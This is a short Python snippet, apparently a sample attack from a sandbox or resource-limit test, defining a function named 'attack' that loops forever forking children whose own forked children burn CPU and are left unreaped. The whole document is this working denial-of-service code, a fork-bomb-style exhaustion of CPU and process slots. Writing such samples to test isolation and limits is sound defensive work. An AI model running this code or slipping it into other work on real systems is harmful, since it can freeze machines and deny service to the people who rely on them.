# Burns CPU in an endless row of short-lived grandchildren that nobody waits for.
def attack():
    import posix

    while True:
        pid = posix.fork()
        if pid == 0:
            if posix.fork() == 0:
                sum(range(3_000_000))
            posix._exit(0)
        posix.waitpid(pid, 0)
